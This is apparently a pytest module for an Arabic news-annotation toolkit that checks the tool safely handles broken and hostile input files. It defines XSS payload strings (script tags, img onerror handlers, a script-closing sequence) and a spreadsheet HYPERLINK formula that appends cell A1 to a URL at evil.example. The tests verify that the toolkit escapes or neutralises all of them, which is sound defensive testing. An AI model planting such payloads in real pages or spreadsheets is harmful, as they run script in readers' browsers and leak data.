@@ -1,0 +1,511 @@
+"""Hostile and broken input, together in one folder corpus built from the seed articles.
+
+cp1256 and UTF-16 files, an empty file, a binary file named .txt, a 20 MB article, Latin text only, HTML and
+`<script>` in the article text (and in its title, source and file name), a spreadsheet formula as its first
+line, a UTF-8 file with a corrupt byte, and a JSONL table with a malformed line: every input ends up as one
+article (its text decoded exactly) or as one row of `corpus.errors` naming the file, the whole folder is
+annotated with spans that point back into the text, and article text is escaped in every HTML the kit
+renders or exports. Malformed rows of a researcher's actor catalogue or stance lexicon stop the kit with a
+LexiconError naming the file and the line.
+
+The folder is loaded and annotated once for the module (the 20 MB article takes most of the time).
+"""
+
+from __future__ import annotations
+
+import csv
+import gzip
+import json
+import re
+from dataclasses import dataclass, replace
+from html.parser import HTMLParser
+from pathlib import Path
+
+import ipywidgets as W
+import pandas as pd
+import plotly.graph_objects as go
+import pytest
+
+import kit
+from kit.export import export_chart, write_table
+from kit.text import normalize, split_article
+
+from .conftest import SEEDS
+
+SCRIPT = '<script>alert("x")</script>'
+IMG = "<img src=x onerror=alert(1)>"
+CLOSE = "</script><script>alert(2)</script>"
+SOURCE_HTML = "<img src=x onerror=alert('source')>"
+FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"الكرملين: الاتحاد الأوروبي يحاول إخراج روسيا")'
+HOSTILE_ID = "<img src=x onerror=alert(3)>"  # a file name is article text too: it becomes the article_id
+PAYLOADS = (SCRIPT, IMG, CLOSE, SOURCE_HTML, HOSTILE_ID)
+BIG_BYTES = 20_000_000
+LATIN = (
+    "Putin and Macron court Kazakhstan\n\n"
+    "French President Emmanuel Macron arrived in Astana on Wednesday, a week before Russian President Vladimir "
+    "Putin, as Europe seeks closer ties with Central Asia. Kazakhstan supplies uranium and oil to France.\n\n"
+    'Kremlin spokesman Dmitry Peskov said: "Kazakhstan is our ally and strategic partner." Trade reached $28 billion.\n'
+)
+# tags the kit's own HTML widgets use; anything else in a widget came from article text
+KIT_TAGS = {"div", "p", "span", "mark", "h3", "h4", "table", "tr", "td", "th", "ul", "li", "code"}
+KIT_ATTRIBUTES = {"dir", "lang", "style", "title"}
+
+
+def seed(article_id: str) -> str:
+    return (SEEDS / f"{article_id}.txt").read_text(encoding="utf-8")
+
+
+def script_article() -> str:
+    """Seed 002 with HTML in its paragraphs, in its source line, and a spreadsheet formula as its first line."""
+    lines = seed("002_e6f550ea9df77be0").split("\n")
+    lines[0] = FORMULA
+    for number, line in enumerate(lines):
+        if line.startswith("وقال وزير الخارجية سيرغي لافروف"):  # an indirect quote
+            lines[number] = line.replace("يحاول علناً", f"يحاول {SCRIPT} علناً")
+        elif line.startswith("وأكد لافروف:"):  # a direct quote
+            lines[number] = line.replace("نحن لا نرفض التواصل", f"نحن لا نرفض {IMG} التواصل")
+        elif line.startswith("أعلن وزير الخارجية الروسي"):  # the sentence of a figure
+            lines[number] = line.replace("بكازاخستان", f"بكازاخستان {CLOSE}", 1)
+        elif line.startswith("المصدر:"):
+            lines[number] = f"{line} {SOURCE_HTML}"
+    text = "\n".join(lines)
+    assert all(payload in text for payload in (SCRIPT, IMG, CLOSE, SOURCE_HTML)), "seed 002 changed: update script_article"
+    return text
+
+
+def big_article() -> str:
+    """A 20 MB (UTF-8) article of seed paragraphs, one per line with blank lines between."""
+    paragraphs = [line.strip() for p in sorted(SEEDS.glob("*.txt")) for line in p.read_text(encoding="utf-8").split("\n") if len(line.strip()) > 80]
+    parts, size = ["مقال طويل عن زيارتي ماكرون وبوتين إلى كازاخستان"], 0
+    while size < BIG_BYTES:
+        parts.append(paragraphs[len(parts) % len(paragraphs)])
+        size += len(parts[-1].encode("utf-8")) + 2
+    return "\n\n".join(parts) + "\n"
+
+
+@dataclass
+class Hostile:
+    folder: Path
+    articles: dict[str, tuple[str, str]]  # file name → (text, encoding) of the files that must load
+    errors: dict[str, str]  # file name → what the reason says
+    corpus: kit.Corpus
+    annotated: kit.Annotated
+
+    def article_id(self, name: str) -> str:
+        return self.corpus.articles.set_index("path").loc[name, "article_id"]
+
+    def small(self) -> kit.Annotated:
+        """The annotated corpus without the 20 MB article (for the CSV test, which writes and rereads every row)."""
+        keep = self.annotated.articles["article_id"] != self.article_id("long_article.txt")
+        ids = set(self.annotated.articles.loc[keep, "article_id"])
+        return replace(self.annotated, **{name: table[table["article_id"].isin(ids)].reset_index(drop=True) for name, table in self.annotated.tables.items() if name != "errors"})
+
+
+def jsonl_lines() -> list[str]:
+    records = [
+        {"article_id": "j1", "source": "سكاي نيوز عربية", "text": seed("000_cea7cba6d4a6a0b3")},
+        {"article_id": "j2", "text": seed("001_911741716f96cebe")},
+    ]
+    lines = [json.dumps(r, ensure_ascii=False) for r in records]
+    lines.append('{"article_id": "j3", "text": "وقال لافروف إن')  # cut off mid-string: line 3
+    # a raw U+2028 and U+0085 inside a JSON string are valid JSON (and common in scraped Arabic text)
+    lines.append(json.dumps({"article_id": "j4", "text": seed("004_2fa40185600453ab").replace("\n\n", "\u2028\n", 3) + "\x85"}, ensure_ascii=False))
+    lines.append(json.dumps({"article_id": "j5", "text": seed("003_187d395c4a0346df")}, ensure_ascii=False))
+    return lines
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory) -> Hostile:
+    folder = tmp_path_factory.mktemp("hostile")
+    articles: dict[str, tuple[str, str]] = {}
+    errors: dict[str, str] = {}
+
+    def article(name: str, text: str, data: bytes, encoding: str) -> None:
+        (folder / name).write_bytes(data)
+        articles[name] = (text, encoding)
+
+    def error(name: str, data: bytes, reason: str) -> None:
+        (folder / name).write_bytes(data)
+        errors[name] = reason
+
+    windows, excel, no_bom = seed("000_cea7cba6d4a6a0b3"), seed("004_2fa40185600453ab"), seed("001_911741716f96cebe")
+    article("windows.txt", windows, windows.encode("cp1256"), "cp1256")
+    article("excel_unicode.txt", excel, excel.encode("utf-16"), "utf-16")  # Excel's "Unicode text": BOM + UTF-16-LE
+    article("utf16_no_bom.txt", no_bom, no_bom.encode("utf-16-le"), "utf-16-le")
+    error("empty.txt", b"", "empty file")
+    error("archive.txt", gzip.compress(seed("003_187d395c4a0346df").encode("utf-8"), mtime=0), "binary")
+    article("latin.txt", LATIN, LATIN.encode("utf-8"), "utf-8")
+    script = script_article()
+    article("script.txt", script, script.encode("utf-8"), "utf-8")
+    big = big_article()
+    article("long_article.txt", big, big.encode("utf-8"), "utf-8")
+    damaged = seed("003_187d395c4a0346df")
+    cut = damaged.index("\n", 400)  # a stray Windows byte in a UTF-8 file, on line 2 or later
+    article("damaged_utf8.txt", damaged[:cut] + "\ufffd" + damaged[cut:], damaged[:cut].encode() + b"\x96" + damaged[cut:].encode(), "utf-8")
+    article(f"{HOSTILE_ID}.txt", windows, windows.encode("utf-8"), "utf-8")
+    error("articles.jsonl", ("\n".join(jsonl_lines()) + "\n").encode("utf-8"), "not a .txt file")
+
+    corpus = kit.load_corpus(folder)
+    return Hostile(folder, articles, errors, corpus, kit.annotate(corpus))
+
+
+# ---------------------------------------------------------------------------------------------------
+# Every input is an article or an error
+
+
+def test_every_file_is_one_article_or_one_error_naming_it(hostile):
+    articles = hostile.corpus.articles
+    errors = hostile.corpus.errors
+    failed = errors[errors["level"] == "error"]
+    assert sorted(articles["path"]) == sorted(hostile.articles)  # one row each, nothing else
+    assert sorted(Path(p).name for p in failed["path"]) == sorted(hostile.errors)
+    for name, (text, encoding) in hostile.articles.items():
+        row = articles[articles["path"] == name].iloc[0]
+        assert row["text"] == text, name  # decoded exactly (NFC seed text, no BOM)
+        assert row["encoding"] == encoding, name
+        assert row["n_chars"] == len(text)
+    for name, says in hostile.errors.items():
+        reason = failed.loc[failed["path"].map(lambda p: Path(p).name) == name, "reason"].iloc[0]
+        assert str(hostile.folder / name) in reason and says in reason, reason
+    assert len(articles) + len(failed) == len(list(hostile.folder.iterdir()))  # nothing dropped silently
+
+
+def test_a_corrupt_byte_in_utf8_is_replaced_and_reported_not_read_as_cp1256(hostile):
+    warnings = hostile.corpus.errors[hostile.corpus.errors["level"] == "warning"]
+    reason = warnings.loc[warnings["path"].str.endswith("damaged_utf8.txt"), "reason"].iloc[0]
+    assert "1 invalid UTF-8 byte(s) replaced by U+FFFD" in reason
+    text = hostile.articles["damaged_utf8.txt"][0]
+    assert f"line {text[: text.index(chr(0xFFFD))].count(chr(10)) + 1}:" in reason
+
+
+def test_metadata_is_read_from_hostile_pages(hostile):
+    articles = hostile.corpus.articles.set_index("path")
+    assert articles.loc["windows.txt", "source"] == "سكاي نيوز عربية"  # read from the cp1256 bytes
+    assert articles.loc["excel_unicode.txt", "published"] == pd.Timestamp("2023-04-11")  # ١١ أبريل ٢٠٢٣, from UTF-16
+    assert articles.loc["script.txt", "title"] == FORMULA
+    assert articles.loc["script.txt", "source"] == f"موقع 24 {SOURCE_HTML}"
+    assert articles.loc[f"{HOSTILE_ID}.txt", "article_id"] == HOSTILE_ID
+    assert articles.loc["latin.txt", "title"] == "Putin and Macron court Kazakhstan"
+
+
+def test_jsonl_with_one_malformed_line_loads_the_others(hostile):
+    path = hostile.folder / "articles.jsonl"
+    corpus = kit.load_corpus(path)
+    assert list(corpus.articles["article_id"]) == ["j1", "j2", "j4", "j5"]
+    texts = corpus.articles.set_index("article_id")["text"]
+    assert texts["j1"] == seed("000_cea7cba6d4a6a0b3")
+    assert "\u2028" in texts["j4"] and texts["j4"].endswith("\x85")  # line separators inside a record are text
+    assert len(corpus.errors) == 1
+    bad = corpus.errors.iloc[0]
+    assert bad["row"] == 3 and bad["level"] == "error"
+    assert f"{path}, line 3: not valid JSON" in bad["reason"]
+    annotated = kit.annotate(corpus)
+    assert set(annotated.sentences["article_id"]) == {"j1", "j2", "j4", "j5"}
+
+
+# ---------------------------------------------------------------------------------------------------
+# Annotation of the whole folder
+
+
+def test_the_whole_folder_is_annotated_with_spans_that_point_into_the_text(hostile):
+    annotated = hostile.annotated
+    texts = annotated.articles.set_index("article_id")["text"].to_dict()
+    assert set(annotated.sentences["article_id"]) == set(texts)
+    assert annotated.errors.equals(hostile.corpus.errors)
+    big = hostile.article_id("long_article.txt")
+    for table in ("mentions", "quotes", "figures", "stance", "cues"):
+        assert (getattr(annotated, table)["article_id"] == big).any(), table
+    for name, column in (("sentences", "text"), ("mentions", "surface"), ("quotes", "quote"), ("figures", "surface")):
+        table = getattr(annotated, name)
+        for article_id, start, end, surface in zip(table["article_id"], table["start"], table["end"], table[column]):
+            assert texts[article_id][start:end] == surface, (name, article_id, start)
+    quotes = annotated.quotes.dropna(subset=["verb"])
+    for article_id, start, end, verb in zip(quotes["article_id"], quotes["verb_start"], quotes["verb_end"], quotes["verb"]):
+        assert texts[article_id][start:end] == verb
+    sentences = annotated.sentences.set_index(["article_id", "sentence_id"])[["start", "end"]]
+    bounds = sentences.loc[list(zip(annotated.cues["article_id"], annotated.cues["sentence_id"]))].to_numpy()
+    for (low, high), article_id, start, end, pattern in zip(bounds, annotated.cues["article_id"], annotated.cues["start"], annotated.cues["end"], annotated.cues["pattern"]):
+        surface = " ".join(normalize(texts[article_id][start:end]).split())
+        assert low <= start < end <= high and split_article(pattern)[1][:-1] in surface, (article_id, start, pattern, surface)
+
+
+def test_html_in_the_text_is_kept_as_text_by_every_layer(hostile):
+    annotated = hostile.annotated
+    script = hostile.article_id("script.txt")
+    quotes = annotated.quotes[annotated.quotes["article_id"] == script]["quote"]
+    assert quotes.str.contains(SCRIPT, regex=False).any() and quotes.str.contains(IMG, regex=False).any()
+    sentences = annotated.sentences[annotated.sentences["article_id"] == script]
+    assert sentences["text"].str.contains(CLOSE, regex=False).any()
+    assert sentences["text"].iloc[0] == FORMULA
+    speakers = set(annotated.quotes.loc[annotated.quotes["article_id"] == script, "speaker_id"].dropna())
+    assert "RUS_LAVROV" in speakers
+
+
+def test_latin_only_text_loads_and_finds_no_arabic_actors(hostile):
+    latin = hostile.article_id("latin.txt")
+    annotated = hostile.annotated
+    assert (annotated.sentences["article_id"] == latin).sum() >= 4
+    assert not (annotated.mentions["article_id"] == latin).any()
+    assert not (annotated.stance["article_id"] == latin).any()
+
+
+# ---------------------------------------------------------------------------------------------------
+# Escaping: the reader, charts, HTML export, CSV export, dashboards
+
+
+class _Tags(HTMLParser):
+    """The tags and attribute names of an HTML fragment, as a browser would parse them."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        self.attributes.update(name for name, _ in attrs)
+
+
+def assert_inert(fragment: str, where: str) -> None:
+    """Only the kit's own tags and attributes: article text in it was escaped."""
+    lowered = fragment.lower()
+    assert "<script" not in lowered and "<img" not in lowered, where
+    parsed = _Tags()
+    parsed.feed(fragment)
+    parsed.close()
+    assert parsed.tags <= KIT_TAGS, (where, parsed.tags - KIT_TAGS)
+    assert parsed.attributes <= KIT_ATTRIBUTES, (where, parsed.attributes - KIT_ATTRIBUTES)
+
+
+def test_reader_html_escapes_the_article(hostile):
+    annotated = hostile.annotated
+    script = hostile.article_id("script.txt")
+    for article_id in (script, HOSTILE_ID):
+        for highlight in ("segments", "mentions", "cues", "figures"):
+            page = kit.article_html(annotated, article_id, highlight)
+            assert_inert(page, f"article_html({article_id!r}, {highlight!r})")
+    page = kit.article_html(annotated, script, "mentions")
+    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in page and "&lt;img src=x onerror=alert(1)&gt;" in page
+    assert "&lt;/script&gt;&lt;script&gt;alert(2)&lt;/script&gt;" in page
+    sentences = annotated.sentences[annotated.sentences["article_id"] == script]
+    for sentence_id in sentences.loc[sentences["text"].str.contains("<", regex=False), "sentence_id"]:
+        for highlight in ("cues", "mentions"):
+            fragment = kit.sentence_html(annotated, script, sentence_id, highlight)
+            assert_inert(fragment, f"sentence_html({sentence_id}, {highlight!r})")
+            assert "&lt;" in fragment
+
+
+def chart_strings(figure) -> list[str]:
+    found: list[str] = []
+
+    def walk(value) -> None:
+        if isinstance(value, str):
+            found.append(value)
+        elif isinstance(value, dict):
+            for item in value.values():
+                walk(item)
+        elif isinstance(value, (list, tuple)) or hasattr(value, "tolist"):
+            for item in value.tolist() if hasattr(value, "tolist") else value:
+                walk(item)
+
+    walk(go.Figure(figure).to_plotly_json())
+    return found
+
+
+def chart_builders(annotated):
+    """Every chart builder of kit.charts with the rows the dashboards give it (labels in both languages)."""
+    context = kit.widgets.in_context
+    stance = context(annotated.stance, annotated)
+    figures = context(annotated.figures, annotated)
+    for labels in ("en", "ar"):
+        yield "timeline", kit.charts.timeline(annotated.articles, labels)
+        yield "segments_chart", kit.charts.segments_chart(annotated.sentences, labels)
+        yield "actor_bars", kit.charts.actor_bars(annotated.mentions, labels)
+        yield "actor_heatmap", kit.charts.actor_heatmap(annotated.mentions, labels)
+        yield "cooccurrence_network", kit.charts.cooccurrence_network(annotated.mentions, labels)
+        for by in ("article_id", "source", "holder_id", "month"):
+            yield f"stance_bars by {by}", kit.charts.stance_bars(stance, by, labels)
+        yield "stance_timeline", kit.charts.stance_timeline(stance, labels)
+        yield "figures_chart", kit.charts.figures_chart(figures, labels)
+        found = kit.conflicts(figures, annotated.articles)
+        yield "conflicts_chart", kit.charts.conflicts_chart(found, labels)
+
+
+def payloads_in(strings: list[str]) -> set[str]:
+    return {payload for payload in PAYLOADS for s in strings if payload in s}
+
+
+def test_chart_labels_and_hover_texts_are_escaped(hostile):
+    annotated = hostile.annotated
+    unescaped = {}
+    for name, figure in chart_builders(annotated):
+        found = payloads_in(chart_strings(figure))
+        if found - {HOSTILE_ID}:  # article ids: see the next test
+            unescaped[name] = found
+    assert not unescaped
+    timeline = chart_strings(kit.charts.timeline(annotated.articles))
+    assert any("&lt;img src=x onerror=alert(&#x27;source&#x27;)&gt;" in s for s in timeline)  # the source, escaped
+
+
+def test_article_ids_from_file_names_are_escaped_in_charts(hostile):
+    annotated = hostile.small()
+    unescaped = {name for name, figure in chart_builders(annotated) if HOSTILE_ID in payloads_in(chart_strings(figure))}
+    assert not unescaped, unescaped
+
+
+def test_chart_html_export_cannot_be_closed_by_article_text(hostile, tmp_path):
+    annotated = hostile.small()
+    # a label that bypassed escaping: plotly's JSON escapes < > / so </script> cannot end its script block
+    raw = go.Figure(go.Bar(x=[1, 2], y=[CLOSE, SCRIPT], name=IMG, customdata=[[SOURCE_HTML], [CLOSE]], hovertemplate="%{customdata[0]}"))
+    page = export_chart(raw, None, "raw labels", tmp_path, formats=("html",)).paths["html"].read_text(encoding="utf-8")
+    for payload in (CLOSE, SCRIPT, IMG, SOURCE_HTML, "</script><script>"):
+        assert payload not in page
+    assert "\\u003c\\u002fscript\\u003e\\u003cscript\\u003ealert(2)" in page
+    assert page.count("</script>") == export_chart(go.Figure(go.Bar(x=[1], y=[1])), None, "plain", tmp_path, formats=("html",)).paths["html"].read_text(encoding="utf-8").count("</script>")
+    # the kit's own charts of the hostile corpus, and the rows behind them
+    figure = kit.charts.timeline(annotated.articles)
+    result = export_chart(figure, annotated.articles.drop(columns=["text"]), "timeline", tmp_path, formats=("html", "csv"))
+    page = result.paths["html"].read_text(encoding="utf-8")
+    assert SOURCE_HTML not in page and "<img" not in page
+    rows = pd.read_csv(result.paths["csv"], encoding="utf-8-sig", dtype=str, keep_default_na=False).set_index("path")
+    assert rows.loc["script.txt", "title"] == "'" + FORMULA  # not a live formula in Excel
+    assert rows.loc["script.txt", "source"] == f"موقع 24 {SOURCE_HTML}"  # CSV keeps the text as it is
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_csv_exports_neutralise_formulas(hostile, tmp_path):
+    annotated = hostile.small()
+    written = [p for name, table in annotated.tables.items() for p in write_table(table, tmp_path / name) if p.suffix == ".csv"]
+    formula_cells = []
+    for path in written:
+        with path.open(encoding="utf-8-sig", newline="") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(cell):
+                        formula_cells.append((path.name, cell[:60]))
+    assert not formula_cells
+    sentences = pd.read_csv(tmp_path / "sentences.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    assert ("'" + FORMULA) in set(sentences["text"])
+    assert kit.export.excel_safe(pd.DataFrame({"t": [FORMULA, "-1", "@SUM(A1)", "نص"]}))["t"].tolist() == ["'" + FORMULA, "-1", "'@SUM(A1)", "نص"]
+
+
+def html_widgets(widget) -> list[W.HTML]:
+    found = [widget] if isinstance(widget, W.HTML) else []
+    for child in getattr(widget, "children", ()):
+        found.extend(html_widgets(child))
+    return found
+
+
+def test_dashboards_escape_article_text_in_their_html_widgets(hostile, tmp_path):
+    annotated = hostile.annotated
+    script = hostile.article_id("script.txt")
+    boards = [board(annotated, outdir=tmp_path) for board in (kit.CorpusDashboard, kit.ActorsDashboard, kit.StanceDashboard, kit.FiguresDashboard)]
+    corpus_board, actors_board, stance_board, _ = boards
+    for board in (corpus_board, actors_board):
+        board.article.value = script
+        board.segments.value = ("body", "related", "tags", "boilerplate")
+    corpus_board.source.value = f"موقع 24 {SOURCE_HTML}"  # the source, as a filter
+    sentences = stance_board.sentence.options
+    hostile_sentences = [value for _, value in sentences if value[0] in (script, HOSTILE_ID)]
+    assert hostile_sentences
+    shown = []
+    for value in hostile_sentences:
+        stance_board.sentence.value = value
+        shown.extend((f"stance {value}", w.value) for w in html_widgets(stance_board.widget))
+    stance_board.by.value = "source"
+    for board in boards:
+        shown.extend((type(board).__name__, w.value) for w in html_widgets(board.widget))
+    for where, value in shown:
+        assert_inert(value, where)
+    everything = "".join(value for _, value in shown)
+    assert "&lt;script&gt;" in everything and "&lt;img src=x onerror=alert(1)&gt;" in everything  # shown, as text
+    for board in boards:
+        for name, figure in board.charts.items():
+            assert not payloads_in(chart_strings(figure)) - {HOSTILE_ID}, (type(board).__name__, name)
+
+
+# ---------------------------------------------------------------------------------------------------
+# A researcher's catalogue and stance lexicon with a malformed row
+
+
+def catalogue_header() -> str:
+    return next(line for line in kit.lexicons.data_path("actors.csv").read_text(encoding="utf-8-sig").splitlines() if line and not line.startswith("#"))
+
+
+# not in the bundled catalogue; seed 004 names it («عشية اجتماع مجلس وزراء الخارجية لرابطة الدول المستقلة»)
+COUNCIL = "CIS_CFM,CIS Council of Foreign Ministers,مجلس وزراء الخارجية,,,,organisation,CIS,russia,,,"
+
+
+@pytest.mark.parametrize(
+    "bad_row, message",
+    [
+        ("KAZ_NURTLEU,Murat Nurtleu,مراد نورتلو,,,,person,KAZ,centralasia,,,", "line 3: column 'bloc' = 'centralasia': must be one of"),
+        ("KAZ_NURTLEU,Murat Nurtleu,مراد نورتلو,,,person,KAZ,central_asia,,,", "line 3: expected 12 fields, found 11"),
+        ('KAZ_NURTLEU,Murat Nurtleu,"مراد نورتلو,,,,person,KAZ,central_asia,,,', "line 3: a quotation mark is left open (the row runs on to the end of the file, line 5)"),
+    ],
+)
+def test_a_malformed_catalogue_row_is_an_error_naming_file_and_line(hostile, tmp_path, bad_row, message):
+    path = tmp_path / "my_actors.csv"
+    path.write_text(f"{catalogue_header()}\n{COUNCIL}\n{bad_row}\n\n{COUNCIL.replace('CIS_CFM', 'CIS_OTHER')}\n", encoding="utf-8")
+    with pytest.raises(kit.LexiconError) as error:
+        kit.Catalogue.load(extra=[path])
+    assert f"{path}, {message}" in str(error.value)
+    with pytest.raises(kit.LexiconError, match=re.escape(f"{path}, line 3")):
+        kit.annotate(hostile.corpus, extra_actors=[path])
+
+
+def test_a_catalogue_saved_by_excel_in_cp1256_or_utf16_loads(hostile, tmp_path):
+    corpus = kit.load_corpus(hostile.folder / "excel_unicode.txt")  # seed 004, in UTF-16
+    for encoding in ("cp1256", "utf-16"):
+        path = tmp_path / f"actors_{encoding}.csv"
+        path.write_bytes(f"{catalogue_header()}\r\n{COUNCIL}\r\n".encode(encoding))
+        assert "CIS_CFM" in kit.Catalogue.load(extra=[path]).actors.index
+        mentions = kit.annotate(corpus, extra_actors=[path]).mentions
+        assert "CIS_CFM" in set(mentions["actor_id"]), encoding
+
+
+@pytest.mark.parametrize(
+    "data, message",
+    [(b"", "empty file"), (gzip.compress(b"actor_id,name_en\n", mtime=0), "binary"), (bytes(range(1, 256)) * 8, "not readable text")],
+)
+def test_an_unreadable_catalogue_is_a_lexicon_error_naming_the_file(tmp_path, data, message):
+    path = tmp_path / "broken.csv"
+    path.write_bytes(data)
+    with pytest.raises(kit.LexiconError) as error:
+        kit.Catalogue.load(extra=[path])
+    assert str(path) in str(error.value) and message in str(error.value)
+
+
+def test_a_byte_that_is_not_utf8_in_a_lexicon_names_its_line(tmp_path):
+    path = tmp_path / "my_actors.csv"
+    path.write_bytes(f"{catalogue_header()}\n{COUNCIL}\n".encode() + "KAZ_X,X,".encode() + b"\xe4" + "س,,,,person,KAZ,central_asia,,,\n".encode())
+    with pytest.raises(kit.LexiconError, match=re.escape(f"{path}, line 3: 1 byte(s) that are not valid UTF-8")):
+        kit.Catalogue.load(extra=[path])
+
+
+@pytest.mark.parametrize(
+    "bad_row, message",
+    [
+        ("تقارب,engagement,2,1.0,agent,,", "polarity must be 1 or -1"),
+        ("تقارب,friendship,1,1.0,agent,,", "column 'category' = 'friendship': must be one of"),
+        ("تقارب,engagement,1,heavy,agent,,", "column 'weight' = 'heavy'"),
+        ("تقارب,engagement,1", "expected"),
+    ],
+)
+def test_a_malformed_stance_cue_row_is_an_error_naming_file_and_line(hostile, tmp_path, bad_row, message):
+    bundled = kit.lexicons.data_path("stance_cues.csv").read_text(encoding="utf-8-sig")
+    path = tmp_path / "my_cues.csv"
+    path.write_text(bundled.rstrip("\n") + "\n" + bad_row + "\n", encoding="utf-8")
+    line = len(path.read_text(encoding="utf-8").splitlines())
+    with pytest.raises(kit.LexiconError) as error:
+        kit.StanceLexicon.load(path)
+    assert f"{path}, line {line}: " in str(error.value) and message in str(error.value)
+    with pytest.raises(kit.LexiconError, match=re.escape(f"{path}, line {line}: ")):
+        kit.annotate(hostile.corpus, cues=path)
